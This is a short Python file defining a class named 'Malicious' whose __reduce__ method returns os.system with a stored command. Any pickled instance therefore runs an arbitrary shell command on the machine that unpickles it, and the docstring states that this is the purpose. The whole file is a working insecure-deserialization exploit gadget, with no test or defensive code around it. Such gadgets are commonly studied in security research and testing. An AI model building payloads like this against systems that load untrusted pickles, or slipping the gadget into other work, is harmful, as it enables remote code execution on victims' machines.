"""A pickle that would run a command where it is read by running it."""

import os


class Malicious:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)
